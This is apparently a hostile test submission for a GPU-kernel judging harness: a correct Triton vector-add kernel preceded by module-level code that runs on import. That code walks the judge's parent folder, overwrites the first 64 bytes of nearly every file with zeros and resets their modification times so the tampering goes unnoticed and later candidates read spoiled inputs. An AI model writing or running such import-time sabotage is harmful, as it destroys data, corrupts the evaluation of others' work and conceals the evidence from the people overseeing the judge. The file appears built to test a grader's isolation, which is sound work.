"""Hostile: overwrites every file of the judge's folder it can find when it is loaded (where a judge kept
input files for candidates to read), keeping their modification times, so that the candidates judged after
it would read spoiled inputs; its own answers are right."""
import os

import torch
import triton
import triton.language as tl

DEVICE = "cuda" if torch.cuda.is_available() else "cpu"

for root, _, files in os.walk(os.path.dirname(os.getcwd())):
    for name in files:
        path = os.path.join(root, name)
        if name != "cell.py" and not name.endswith(".log") and root != os.getcwd():
            st = os.stat(path)
            with open(path, "r+b") as f:
                f.write(b"\0" * 64)
            os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(out_ptr + offs, tl.load(x_ptr + offs, mask=mask) + tl.load(y_ptr + offs, mask=mask), mask=mask)


def run(x, y):
    out = torch.empty_like(x)
    add_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, out, x.numel(), BLOCK=1024)
    return out
